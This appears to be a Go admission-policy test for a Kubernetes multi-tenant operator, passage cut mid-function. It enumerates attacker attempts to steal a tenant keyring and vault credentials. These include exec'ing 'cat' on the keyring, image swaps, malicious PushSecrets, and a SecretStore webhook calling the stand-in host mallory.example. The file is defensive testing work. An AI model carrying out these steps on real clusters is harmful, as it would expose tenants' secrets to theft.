package admission

import (
	"context"
	"encoding/base64"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes/scheme"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/tenantwire/tenantwire/internal/keyring"
	"github.com/tenantwire/tenantwire/internal/labels"
	"github.com/tenantwire/tenantwire/internal/testenv"
)

// attempt is one request made as one identity. suffix keeps apart the names of the objects the
// run without policies and the run with them create.
type attempt struct {
	as string
	do func(ctx context.Context, id identity, suffix string) error
}

// attack is an attempt that the policies must deny, with policy's name and message in the error.
type attack struct {
	attempt
	policy, message string
	// connect marks exec, attach and port-forward: admitted, they go on to the pod's node, which
	// envtest does not have, so an admitted attempt fails with noHost instead of succeeding.
	connect bool
}

const noHost = "does not have a host assigned"

const (
	workloadsPolicy  = "tenantwire-tenant-workloads"
	podsPolicy       = "tenantwire-tenant-pods"
	identitiesPolicy = "tenantwire-tenant-identities"
	reachPolicy      = "tenantwire-operator-reach"
	// operatorDataPolicy guards the keyring and the operator's ConfigMaps.
	operatorDataPolicy = "tenantwire-tenant-operator-data"
)

func TestTenantNamespaceAdmission(t *testing.T) {
	ctx := context.Background()
	t.Run("without the policies every attack gets through", func(t *testing.T) {
		for name, a := range attacks() {
			t.Run(name, func(t *testing.T) {
				err := a.do(ctx, clients[a.as], "-unguarded")
				switch {
				case a.connect && (err == nil || !strings.Contains(err.Error(), noHost)):
					t.Fatalf("want the request admitted and failing with %q for want of a node, got %v", noHost, err)
				case !a.connect && err != nil:
					t.Fatalf("the attack fails without the policies, so it proves nothing: %v", err)
				}
			})
		}
	})
	// The run above turned on the sync ServiceAccount's token; put it back as the operator has it.
	sa := &corev1.ServiceAccount{}
	if err := admin.Get(ctx, client.ObjectKey{Namespace: tenantNS, Name: syncSA}, sa); err != nil {
		t.Fatal(err)
	}
	sa.AutomountServiceAccountToken = ptr.To(false)
	if err := admin.Update(ctx, sa); err != nil {
		t.Fatal(err)
	}
	// It also deleted the keyring.
	if err := admin.Create(ctx, keyringSecret()); client.IgnoreAlreadyExists(err) != nil {
		t.Fatal(err)
	}

	installPolicies(t, ctx)

	t.Run("with the policies every attack is denied", func(t *testing.T) {
		for name, a := range attacks() {
			t.Run(name, func(t *testing.T) {
				err := a.do(ctx, clients[a.as], "-guarded")
				if err == nil {
					t.Fatal("allowed")
				}
				if !strings.Contains(err.Error(), "ValidatingAdmissionPolicy '"+a.policy+"'") || !strings.Contains(err.Error(), a.message) {
					t.Fatalf("want a denial by %s saying %q, got: %v", a.policy, a.message, err)
				}
			})
		}
	})
	t.Run("with the policies the operator, the controllers and the tenant still work", func(t *testing.T) {
		for name, a := range allowed() {
			t.Run(name, func(t *testing.T) {
				if err := a.do(ctx, clients[a.as], ""); err != nil {
					t.Fatal(err)
				}
			})
		}
	})
}

// policiesInstalled is set once installPolicies has seen every policy enforced.
var policiesInstalled bool

// installPolicies creates config/admission, unless an earlier test did, and waits until the API
// server enforces every policy.
func installPolicies(t *testing.T, ctx context.Context) {
	t.Helper()
	if policiesInstalled {
		return
	}
	objs, err := policies()
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range objs {
		if err := admin.Create(ctx, o); err != nil {
			t.Fatalf("creating %s %s: %v", o.GetObjectKind().GroupVersionKind().Kind, o.GetName(), err)
		}
	}
	dryRun := func(as string, o client.Object) error {
		return clients[as].c.Create(ctx, o, client.DryRunAll)
	}
	probes := map[string]func() error{
		workloadsPolicy: func() error {
			return dryRun(mallory, &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: "probe", Namespace: tenantNS}, Spec: jobSpec()})
		},
		podsPolicy: func() error {
			return dryRun(mallory, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "probe", Namespace: tenantNS}, Spec: plainPodSpec()})
		},
		identitiesPolicy: func() error {
			return dryRun(mallory, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "probe", Namespace: tenantNS}})
		},
		operatorDataPolicy: func() error {
			return dryRun(mallory, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "probe", Namespace: tenantNS,
				Labels: map[string]string{labels.ManagedBy: labels.ManagedByValue}}})
		},
		namespaceDeletionPolicy: func() error {
			return clients[operatorUser].c.Delete(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: tenantNS}}, client.DryRunAll)
		},
		reachPolicy: func() error {
			return dryRun(operatorUser, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "probe", Namespace: "kube-system"}})
		},
	}
	for policy, probe := range probes {
		testenv.Eventually(t, 30*time.Second, func() error {
			if err := probe(); err == nil || !strings.Contains(err.Error(), policy) {
				return &notEnforced{policy: policy, err: err}
			}
			return nil
		})
	}
	policiesInstalled = true
}

type notEnforced struct {
	policy string
	err    error
}

func (e *notEnforced) Error() string {
	return "policy " + e.policy + " is not enforced yet (probe: " + errString(e.err) + ")"
}

func errString(err error) string {
	if err == nil {
		return "allowed"
	}
	return err.Error()
}

func attacks() map[string]attack {
	create := func(as, policy, message string, build func(suffix string) client.Object) attack {
		return attack{attempt: attempt{as: as, do: func(ctx context.Context, id identity, suffix string) error {
			return id.c.Create(ctx, build(suffix))
		}}, policy: policy, message: message}
	}
	pod := func(name string, mutate func(*corev1.PodSpec)) func(string) client.Object {
		return func(suffix string) client.Object {
			spec := plainPodSpec()
			mutate(&spec)
			return &corev1.Pod{ObjectMeta: meta(name + suffix), Spec: spec}
		}
	}
	const (
		podCreators  = "may be created only by the replicaset and job controllers"
		operatorOnly = "may be created or changed only by the tenantwire operator, not by mallory"
		// operatorWrites follows what the operator-data policy refuses.
		operatorWrites = "may be written only by the tenantwire operator, not by mallory"
		outOfReach     = "the operator writes only in tenant-* namespaces and tenantwire-system"
		pushRefused    = "may only push the refresh_token keys of a *-rotated-token Secret, to a named store, as property refresh_token of a key under the tenant path prefix tenants/acme/"
		// operatorSecrets follows what the reach policy refuses of the operator's Secret writes.
		operatorSecrets = "the operator writes only the keyring and empty *-rotated-token Secrets"
	)
	connect := func(subresource string) attack {
		return attack{attempt: attempt{as: mallory, do: func(ctx context.Context, id identity, _ string) error {
			req := id.cs.CoreV1().RESTClient().Post().Namespace(tenantNS).Resource("pods").Name(syncPod).SubResource(subresource)
			if subresource != "portforward" {
				req = req.VersionedParams(&corev1.PodExecOptions{Container: "sync", Command: []string{"cat", "/keyring/" + keyring.DataKey}, Stdout: true},
					scheme.ParameterCodec)
			}
			return req.Do(ctx).Error()
		}}, policy: podsPolicy, message: "pods/" + subresource + " is not allowed in tenant namespace tenant-acme", connect: true}
	}

	all := map[string]attack{
		// Pods of mallory's own.
		"pod mounting the keyring": create(mallory, podsPolicy, podCreators, pod("keyring-volume", func(s *corev1.PodSpec) {
			mountSecret(s, keyring.SecretName)
		})),
		"pod mounting the keyring through a projected volume": create(mallory, podsPolicy, podCreators, pod("projected", func(s *corev1.PodSpec) {
			s.Volumes = append(s.Volumes, corev1.Volume{Name: "keys", VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{
				Sources: []corev1.VolumeProjection{{Secret: &corev1.SecretProjection{LocalObjectReference: corev1.LocalObjectReference{Name: keyring.SecretName}}}}}}})
			s.Containers[0].VolumeMounts = append(s.Containers[0].VolumeMounts, corev1.VolumeMount{Name: "keys", MountPath: "/keys"})
		})),
		"pod reading a credential through an env secretKeyRef": create(mallory, podsPolicy, podCreators, pod("env", func(s *corev1.PodSpec) {
			s.Containers[0].Env = []corev1.EnvVar{{Name: "API_KEY", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{
				LocalObjectReference: corev1.LocalObjectReference{Name: credentialSecret}, Key: "apiKey"}}}}
		})),
		"pod reading a credential through envFrom": create(mallory, podsPolicy, podCreators, pod("envfrom", func(s *corev1.PodSpec) {
			s.Containers[0].EnvFrom = []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: credentialSecret}}}}
		})),
		"pod running as a sync ServiceAccount with its token": create(mallory, podsPolicy, podCreators, pod("sync-sa", func(s *corev1.PodSpec) {
			s.ServiceAccountName, s.AutomountServiceAccountToken = syncSA, ptr.To(true)
		})),

		// Workloads whose controllers would create the pod for her.
		"Deployment": create(mallory, workloadsPolicy, "deployments in tenant namespace tenant-acme "+operatorOnly, func(suffix string) client.Object {
			return &appsv1.Deployment{ObjectMeta: meta("steal" + suffix), Spec: appsv1.DeploymentSpec{Selector: selector(), Template: stealingTemplate()}}
		}),
		"ReplicaSet": create(mallory, workloadsPolicy, "may be created or changed only by the deployment controller", func(suffix string) client.Object {
			return &appsv1.ReplicaSet{ObjectMeta: meta("steal" + suffix), Spec: appsv1.ReplicaSetSpec{Selector: selector(), Template: stealingTemplate()}}
		}),
		"StatefulSet": create(mallory, workloadsPolicy, "statefulsets may not be created or changed in tenant namespace tenant-acme", func(suffix string) client.Object {
			return &appsv1.StatefulSet{ObjectMeta: meta("steal" + suffix), Spec: appsv1.StatefulSetSpec{Selector: selector(), Template: stealingTemplate()}}
		}),
		"DaemonSet": create(mallory, workloadsPolicy, "daemonsets may not be created or changed in tenant namespace tenant-acme", func(suffix string) client.Object {
			return &appsv1.DaemonSet{ObjectMeta: meta("steal" + suffix), Spec: appsv1.DaemonSetSpec{Selector: selector(), Template: stealingTemplate()}}
		}),
		"Job": create(mallory, workloadsPolicy, "jobs in tenant namespace tenant-acme "+operatorOnly, func(suffix string) client.Object {
			return &batchv1.Job{ObjectMeta: meta("steal" + suffix), Spec: jobSpec()}
		}),
		"CronJob": create(mallory, workloadsPolicy, "cronjobs may not be created or changed in tenant namespace tenant-acme", func(suffix string) client.Object {
			return &batchv1.CronJob{ObjectMeta: meta("steal" + suffix), Spec: batchv1.CronJobSpec{Schedule: "* * * * *",
				JobTemplate: batchv1.JobTemplateSpec{Spec: jobSpec()}}}
		}),
		"ReplicationController": create(mallory, workloadsPolicy, "replicationcontrollers may not be created or changed in tenant namespace tenant-acme", func(suffix string) client.Object {
			t := stealingTemplate()
			return &corev1.ReplicationController{ObjectMeta: meta("steal" + suffix), Spec: corev1.ReplicationControllerSpec{Selector: t.Labels, Template: &t}}
		}),
		"image swap in the operator's Deployment": {attempt: attempt{as: mallory, do: func(ctx context.Context, id identity, suffix string) error {
			d := &appsv1.Deployment{}
			if err := id.c.Get(ctx, client.ObjectKey{Namespace: tenantNS, Name: syncDeployment}, d); err != nil {
				return err
			}
			d.Spec.Template.Spec.Containers[0].Image = "registry.example/mallory" + suffix
			return id.c.Update(ctx, d)
		}}, policy: workloadsPolicy, message: "deployments in tenant namespace tenant-acme " + operatorOnly},

		// The sync pod that exists: change it, or get into it.
		"image swap in a sync pod": {attempt: attempt{as: mallory, do: func(ctx context.Context, id identity, suffix string) error {
			p := &corev1.Pod{}
			if err := id.c.Get(ctx, client.ObjectKey{Namespace: tenantNS, Name: syncPod}, p); err != nil {
				return err
			}
			p.Spec.Containers[0].Image = "registry.example/mallory" + suffix
			return id.c.Update(ctx, p)
		}}, policy: podsPolicy, message: "the spec of pod " + syncPod + " in tenant namespace tenant-acme may not be changed"},
		"ephemeral container mounting the sync pod's keyring": {attempt: attempt{as: mallory, do: func(ctx context.Context, id identity, suffix string) error {
			p, err := id.cs.CoreV1().Pods(tenantNS).Get(ctx, syncPod, metav1.GetOptions{})
			if err != nil {
				return err
			}
			p.Spec.EphemeralContainers = append(p.Spec.EphemeralContainers, corev1.EphemeralContainer{EphemeralContainerCommon: corev1.EphemeralContainerCommon{
				Name: "debug" + suffix, Image: "registry.example/mallory", VolumeMounts: []corev1.VolumeMount{{Name: "keyring", MountPath: "/keys"}}}})
			_, err = id.cs.CoreV1().Pods(tenantNS).UpdateEphemeralContainers(ctx, syncPod, p, metav1.UpdateOptions{})
			return err
		}}, policy: podsPolicy, message: "pods/ephemeralcontainers is not allowed in tenant namespace tenant-acme"},
		"exec into a sync pod":       connect("exec"),
		"attach to a sync pod":       connect("attach"),
		"port-forward to a sync pod": connect("portforward"),

		// Identities, grants and tokens.
		"ServiceAccount": create(mallory, identitiesPolicy, "serviceaccounts in tenant namespace tenant-acme "+operatorOnly, func(suffix string) client.Object {
			return &corev1.ServiceAccount{ObjectMeta: meta("mallory" + suffix)}
		}),
		"token automount on a sync ServiceAccount": {attempt: attempt{as: mallory, do: func(ctx context.Context, id identity, _ string) error {
			sa := &corev1.ServiceAccount{}
			if err := id.c.Get(ctx, client.ObjectKey{Namespace: tenantNS, Name: syncSA}, sa); err != nil {
				return err
			}
			sa.AutomountServiceAccountToken = ptr.To(true)
			return id.c.Update(ctx, sa)
		}}, policy: identitiesPolicy, message: "serviceaccounts in tenant namespace tenant-acme " + operatorOnly},
		"Role reading the keyring": create(mallory, identitiesPolicy, "roles in tenant namespace tenant-acme "+operatorOnly, func(suffix string) client.Object {
			return &rbacv1.Role{ObjectMeta: meta("steal" + suffix), Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"secrets"},
				ResourceNames: []string{keyring.SecretName}, Verbs: []string{"get"}}}}
		}),
		"RoleBinding of the keyring reader": create(mallory, identitiesPolicy, "rolebindings in tenant namespace tenant-acme "+operatorOnly, func(suffix string) client.Object {
			return &rbacv1.RoleBinding{ObjectMeta: meta("steal" + suffix), RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: keyringReader},
				Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "default", Namespace: tenantNS}}}
		}),
		// The operator's own data in the namespace.
		"keyring overwritten with keys mallory knows": {attempt: attempt{as: mallory, do: func(ctx context.Context, id identity, suffix string) error {
			// Written whole, created if the "keyring deleted" attack ran first.
			s := keyringSecret()
			s.Data = map[string][]byte{keyring.DataKey: []byte(`{"active":9,"mallory":"` + suffix + `"}`)}
			err := id.c.Get(ctx, client.ObjectKeyFromObject(s), &corev1.Secret{})
			if apierrors.IsNotFound(err) {
				return id.c.Create(ctx, s)
			}
			if err != nil {
				return err
			}
			return id.c.Update(ctx, s)
		}}, policy: operatorDataPolicy, message: "the keyring in tenant namespace tenant-acme " + operatorWrites},
		"keyring deleted": {attempt: attempt{as: mallory, do: func(ctx context.Context, id identity, _ string) error {
			return id.c.Delete(ctx, keyringSecret())
		}}, policy: operatorDataPolicy, message: "the keyring in tenant namespace tenant-acme " + operatorWrites},
		"sync.yaml rewritten to allow another host": {attempt: attempt{as: mallory, do: func(ctx context.Context, id identity, suffix string) error {
			cm := &corev1.ConfigMap{}
			if err := id.c.Get(ctx, client.ObjectKey{Namespace: tenantNS, Name: syncConfig}, cm); err != nil {
				return err
			}
			cm.Data["sync.yaml"] = "source: {allowedHosts: [mallory" + suffix + ".example]}"
			return id.c.Update(ctx, cm)
		}}, policy: operatorDataPolicy, message: "configmap " + syncConfig + " in tenant namespace tenant-acme " + operatorWrites},
		// A rotated-token Secret is pushed to the practice's vault path: whoever writes it writes
		// the practice's vendor credential.
		"rotated-token Secret planted with a refresh token of mallory's": create(mallory, operatorDataPolicy, "-rotated-token in tenant namespace tenant-acme "+operatorWrites, func(suffix string) client.Object {
			return &corev1.Secret{ObjectMeta: meta("mallory" + suffix + "-rotated-token"),
				Data: map[string][]byte{"destination.refresh_token": []byte("mallory-chosen")}}
		}),
		"rotated token overwritten by mallory": {attempt: attempt{as: mallory, do: func(ctx context.Context, id identity, suffix string) error {
			return id.c.Patch(ctx, &corev1.Secret{ObjectMeta: meta(rotatedTokenSecret)}, client.RawPatch(types.MergePatchType,
				[]byte(`{"data":{"destination.refresh_token":"`+base64.StdEncoding.EncodeToString([]byte("mallory"+suffix))+`"}}`)))
		}}, policy: operatorDataPolicy, message: "secret " + rotatedTokenSecret + " in tenant namespace tenant-acme " + operatorWrites},
		"rotated-token Secret deleted by mallory": {attempt: attempt{as: mallory, do: func(ctx context.Context, id identity, suffix string) error {
			// The operator's empty Secret, so that no other attack loses the one it writes to.
			victim := &corev1.Secret{ObjectMeta: meta("victim" + suffix + "-rotated-token")}
			if err := clients[operatorUser].c.Create(ctx, victim); err != nil {
				return err
			}
			return id.c.Delete(ctx, victim)
		}}, policy: operatorDataPolicy, message: "-rotated-token in tenant namespace tenant-acme " + operatorWrites},
		"ConfigMap posing as the operator's": create(mallory, operatorDataPolicy, "in tenant namespace tenant-acme "+operatorWrites, func(suffix string) client.Object {
			m := meta("posing" + suffix)
			m.Labels = map[string]string{labels.ManagedBy: labels.ManagedByValue}
			return &corev1.ConfigMap{ObjectMeta: m}
		}),
		"token Secret for a sync ServiceAccount": create(mallory, identitiesPolicy, "secrets of type kubernetes.io/service-account-token may not be created", func(suffix string) client.Object {
			m := meta("token" + suffix)
			m.Annotations = map[string]string{corev1.ServiceAccountNameKey: syncSA}
			return &corev1.Secret{ObjectMeta: m, Type: corev1.SecretTypeServiceAccountToken}
		}),
		"TokenRequest for a sync ServiceAccount": {attempt: attempt{as: mallory, do: func(ctx context.Context, id identity, _ string) error {
			_, err := id.cs.CoreV1().ServiceAccounts(tenantNS).CreateToken(ctx, syncSA, &authenticationv1.TokenRequest{
				Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: ptr.To[int64](600)}}, metav1.CreateOptions{})
			return err
		}}, policy: identitiesPolicy, message: "no token may be requested for serviceaccount " + syncSA},

		// Objects that make the External Secrets Operator or the network do the reading.
		"ExternalSecret reading another tenant's vault path": create(mallory, workloadsPolicy, "externalsecrets in tenant namespace tenant-acme "+operatorOnly, func(suffix string) client.Object {
			return eso("v1", "ExternalSecret", "steal"+suffix, map[string]any{
				"secretStoreRef": map[string]any{"kind": "ClusterSecretStore", "name": "tenant-vault"},
				"target":         map[string]any{"name": "stolen" + suffix},
				"data":           []any{map[string]any{"secretKey": "apiKey", "remoteRef": map[string]any{"key": "tenants/other-practice/cerbo"}}},
			})
		}),
		"PushSecret sending the keyring to a vault": create(mallory, workloadsPolicy, "pushsecrets in tenant namespace tenant-acme "+operatorOnly, func(suffix string) client.Object {
			return eso("v1alpha1", "PushSecret", "steal"+suffix, map[string]any{
				"secretStoreRefs": []any{map[string]any{"kind": "SecretStore", "name": "mallory-vault"}},
				"selector":        map[string]any{"secret": map[string]any{"name": keyring.SecretName}},
				"data":            []any{map[string]any{"match": map[string]any{"secretKey": keyring.DataKey, "remoteRef": map[string]any{"remoteKey": "loot"}}}},
			})
		}),
		// The operator's own PushSecret, from a tenant admin: it would overwrite the practice's
		// vault credentials with a token of hers.
		"PushSecret shaped like the operator's, from a tenant admin": create(mallory, workloadsPolicy, "pushsecrets in tenant namespace tenant-acme "+operatorOnly,
			func(suffix string) client.Object {
				return rotatedTokenPushSecret("mallory"+suffix, rotatedTokenSecret, "tenants/acme/quickbooks/oauth")
			}),
		// The operator pushes rotated refresh tokens only, and only under the tenant's prefix.
		"operator: PushSecret to another tenant's vault path": create(operatorUser, workloadsPolicy, pushRefused, func(suffix string) client.Object {
			return rotatedTokenPushSecret("other"+suffix, rotatedTokenSecret, "tenants/other-practice/quickbooks/oauth")
		}),
		"operator: PushSecret climbing out of the tenant's prefix": create(operatorUser, workloadsPolicy, pushRefused, func(suffix string) client.Object {
			return rotatedTokenPushSecret("climb"+suffix, rotatedTokenSecret, "tenants/acme/../other-practice/quickbooks/oauth")
		}),
		"operator: PushSecret of the keyring": create(operatorUser, workloadsPolicy, pushRefused, func(suffix string) client.Object {
			ps := rotatedTokenPushSecret("keyring"+suffix, keyring.SecretName, "tenants/acme/quickbooks/oauth")
			data := ps.Object["spec"].(map[string]any)["data"].([]any)
			data[0].(map[string]any)["match"].(map[string]any)["secretKey"] = keyring.DataKey
			return ps
		}),
		"operator: PushSecret of a rotated-token Secret's other keys": create(operatorUser, workloadsPolicy, pushRefused, func(suffix string) client.Object {
			ps := rotatedTokenPushSecret("whole"+suffix, rotatedTokenSecret, "tenants/acme/quickbooks/oauth")
			delete(ps.Object["spec"].(map[string]any), "data")
			return ps
		}),
		// RBAC lets the operator write Secrets of any name (a rotated-token Secret is named for its
		// Integration); the reach policy keeps it to empty *-rotated-token Secrets and the keyring.
		"operator: Secret of another name": create(operatorUser, reachPolicy, operatorSecrets, func(suffix string) client.Object {
			return &corev1.Secret{ObjectMeta: meta("loot" + suffix)}
		}),
		"operator: rotated-token Secret with data of its own": create(operatorUser, reachPolicy, operatorSecrets, func(suffix string) client.Object {
			return &corev1.Secret{ObjectMeta: meta("planted" + suffix + "-rotated-token"),
				Data: map[string][]byte{"destination.refresh_token": []byte("operator-chosen")}}
		}),
		"operator: overwrite the token writer's token": {attempt: attempt{as: operatorUser, do: func(ctx context.Context, id identity, suffix string) error {
			return id.c.Patch(ctx, &corev1.Secret{ObjectMeta: meta(rotatedTokenSecret)}, client.RawPatch(types.MergePatchType,
				[]byte(`{"data":{"destination.refresh_token":"`+base64.StdEncoding.EncodeToString([]byte("operator"+suffix))+`"}}`)))
		}}, policy: reachPolicy, message: operatorSecrets},
		"operator: credential Secret overwritten": {attempt: attempt{as: operatorUser, do: func(ctx context.Context, id identity, suffix string) error {
			return id.c.Patch(ctx, &corev1.Secret{ObjectMeta: meta(credentialSecret)}, client.RawPatch(types.MergePatchType,
				[]byte(`{"data":{"apiKey":"`+base64.StdEncoding.EncodeToString([]byte("operator"+suffix))+`"}}`)))
		}}, policy: reachPolicy, message: operatorSecrets},
		"SecretStore of mallory's": create(mallory, workloadsPolicy, "secretstores in tenant namespace tenant-acme may be created or changed only by the tenantwire operator or by someone who may create clustersecretstores", func(suffix string) client.Object {
			return eso("v1", "SecretStore", "mallory-vault"+suffix, map[string]any{
				"provider": map[string]any{"webhook": map[string]any{"url": "https://mallory.example/{{ .remoteRef.key }}",
					"result": map[string]any{"jsonPath": "$"}}},
			})
		}),
		"NetworkPolicy opening egress": create(mallory, workloadsPolicy, "networkpolicies in tenant namespace tenant-acme "+operatorOnly, func(suffix string) client.Object {
			return &networkingv1.NetworkPolicy{ObjectMeta: meta("open" + suffix), Spec: networkingv1.NetworkPolicySpec{
				PolicyTypes: []networkingv1.PolicyType{networkingv1.PolicyTypeEgress}, Egress: []networkingv1.NetworkPolicyEgressRule{{}}}}
		}),

		// The operator's own reach (issue item 5): RBAC lets it write in every namespace.
		"operator: Deployment in default": create(operatorUser, reachPolicy, outOfReach+"; refused CREATE of deployments", func(suffix string) client.Object {
			d := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: "miner" + suffix, Namespace: "default"},
				Spec: appsv1.DeploymentSpec{Selector: selector(), Template: stealingTemplate()}}
			return d
		}),
		"operator: Namespace kube-evil": create(operatorUser, reachPolicy, outOfReach, func(suffix string) client.Object {
			return &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "kube-evil" + suffix}}
		}),
		// Its RBAC allows creating a Secret by that name anywhere, with server-side apply as the
		// KeyPolicy controller writes the keyring.
		"operator: a keyring-named Secret in default": {attempt: attempt{as: operatorUser, do: func(ctx context.Context, id identity, _ string) error {
			s := &unstructured.Unstructured{Object: map[string]any{"apiVersion": "v1", "kind": "Secret",
				"metadata":   map[string]any{"name": keyring.SecretName, "namespace": "default"},
				"stringData": map[string]any{keyring.DataKey: "{}"}}}
			return id.c.Apply(ctx, client.ApplyConfigurationFromUnstructured(s), client.FieldOwner("tenantwire-keypolicy"), client.ForceOwnership)
		}}, policy: reachPolicy, message: outOfReach + "; refused UPDATE of secrets tenantwire-keyring in namespace default"},
		"operator: RoleBinding in kube-system": create(operatorUser, reachPolicy, outOfReach+"; refused CREATE of rolebindings", func(suffix string) client.Object {
			return &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "tenantwire-admins" + suffix, Namespace: "kube-system"},
				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "tenantwire-tenant-admin"},
				Subjects: []rbacv1.Subject{{Kind: rbacv1.UserKind, APIGroup: rbacv1.GroupName, Name: mallory}}}
		}),
	}
	for name, a := range namespaceDeletionAttacks() {
		all[name] = a
	}
	return all
}

// allowed are requests the policies must let through: the operator's own writes, the
// controllers acting for its workloads, and what a tenant may still do.
func allowed() map[string]attempt {
	create := func(as string, o client.Object) attempt {
		return attempt{as: as, do: func(ctx context.Context, id identity, _ string) error { return id.c.Create(ctx, o) }}
	}
	t := stealingTemplate()
	all := map[string]attempt{
		"operator creates a Deployment": create(operatorUser, &appsv1.Deployment{ObjectMeta: meta("op"),
			Spec: appsv1.DeploymentSpec{Selector: selector(), Template: t}}),
		"operator creates a Job":            create(operatorUser, &batchv1.Job{ObjectMeta: meta("op"), Spec: jobSpec()}),
		"operator creates a ServiceAccount": create(operatorUser, &corev1.ServiceAccount{ObjectMeta: meta("op")}),
		"operator creates a Role": create(operatorUser, &rbacv1.Role{ObjectMeta: meta("op"), Rules: []rbacv1.PolicyRule{{
			APIGroups: []string{""}, Resources: []string{"secrets"}, ResourceNames: []string{credentialSecret}, Verbs: []string{"get"}}}}),
		"operator creates a RoleBinding": create(operatorUser, &rbacv1.RoleBinding{ObjectMeta: meta("op"),
			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: keyringReader},
			Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: syncSA, Namespace: tenantNS}}}),
		"operator creates an ExternalSecret": create(operatorUser, eso("v1", "ExternalSecret", "op", map[string]any{
			"secretStoreRef": map[string]any{"kind": "ClusterSecretStore", "name": "tenant-vault"},
			"target":         map[string]any{"name": "op"},
			"data":           []any{map[string]any{"secretKey": "apiKey", "remoteRef": map[string]any{"key": "tenants/acme/cerbo"}}},
		})),
		"operator creates a NetworkPolicy": create(operatorUser, &networkingv1.NetworkPolicy{ObjectMeta: meta("op"),
			Spec: networkingv1.NetworkPolicySpec{PolicyTypes: []networkingv1.PolicyType{networkingv1.PolicyTypeEgress}}}),
		"operator creates its PushSecret of rotated tokens": create(operatorUser,
			rotatedTokenPushSecret("op", rotatedTokenSecret, "tenants/acme/quickbooks/oauth")),
		"operator creates an empty rotated-token Secret": create(operatorUser, &corev1.Secret{ObjectMeta: meta("op-rotated-token")}),
		// Its own, created first: the attempts run in no particular order.
		"operator deletes a rotated-token Secret": {as: operatorUser, do: func(ctx context.Context, id identity, _ string) error {
			secret := &corev1.Secret{ObjectMeta: meta("gone-rotated-token")}
			if err := id.c.Create(ctx, secret); err != nil {
				return err
			}
			return id.c.Delete(ctx, secret)
		}},
		"operator creates a tenant Namespace": create(operatorUser, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "tenant-newco"}}),
		// The operator's grant on the keyring is create, patch and delete (never update).
		"operator patches the keyring": {as: operatorUser, do: func(ctx context.Context, id identity, _ string) error {
			return id.c.Patch(ctx, keyringSecret(), client.RawPatch(types.MergePatchType,
				[]byte(`{"metadata":{"annotations":{"tenantwire.io/rotated-at":"2026-12-03T00:00:00Z"}}}`)))
		}},
		"operator writes in its own namespace": create(operatorUser, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "op", Namespace: operatorNS}}),
		"operator records an event of a cluster-scoped object": create(operatorUser, &corev1.Event{
			ObjectMeta:     metav1.ObjectMeta{Name: "tenant-acme.op", Namespace: "default"},
			InvolvedObject: corev1.ObjectReference{APIVersion: "tenantwire.io/v1alpha1", Kind: "Tenant", Name: "acme"},
			Reason:         "Ready", Message: "ready", Type: corev1.EventTypeNormal}),
		"replicaset controller creates a sync pod": create(replicaSetController, &corev1.Pod{ObjectMeta: meta("rs-pod"), Spec: t.Spec}),
		"job controller creates a sync pod":        create(jobController, &corev1.Pod{ObjectMeta: meta("job-pod"), Spec: t.Spec}),
		"deployment controller creates a ReplicaSet": create(deploymentController, &appsv1.ReplicaSet{ObjectMeta: meta("dc"),
			Spec: appsv1.ReplicaSetSpec{Selector: selector(), Template: t}}),
		"deployment controller annotates the operator's Deployment": {as: deploymentController, do: func(ctx context.Context, id identity, _ string) error {
			return annotate(ctx, id.c, &appsv1.Deployment{}, syncDeployment, "deployment.kubernetes.io/revision")
		}},
		// Deleting an Integration leaves its labelled ConfigMaps to the garbage collector.
		"garbage collector deletes a deleted Integration's sync ConfigMap": {as: garbageCollector, do: func(ctx context.Context, id identity, _ string) error {
			cm := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "gone-sync-config", Namespace: tenantNS,
				Labels: map[string]string{labels.ManagedBy: labels.ManagedByValue}}}
			if err := clients[operatorUser].c.Create(ctx, cm); err != nil {
				return err
			}
			return id.c.Delete(ctx, cm)
		}},
		"token writer patches its rotated token": {as: tokenWriter, do: func(ctx context.Context, id identity, _ string) error {
			return id.c.Patch(ctx, &corev1.Secret{ObjectMeta: meta(rotatedTokenSecret)}, client.RawPatch(types.MergePatchType,
				[]byte(`{"data":{"destination.refresh_token":"`+base64.StdEncoding.EncodeToString([]byte("rotated-by-the-vendor"))+`"}}`)))
		}},
		"service account controller creates the default ServiceAccount": create(serviceAccountController,
			&corev1.ServiceAccount{ObjectMeta: meta("default")}),
		"kubelet requests a token for a sync ServiceAccount": {as: node, do: func(ctx context.Context, id identity, _ string) error {
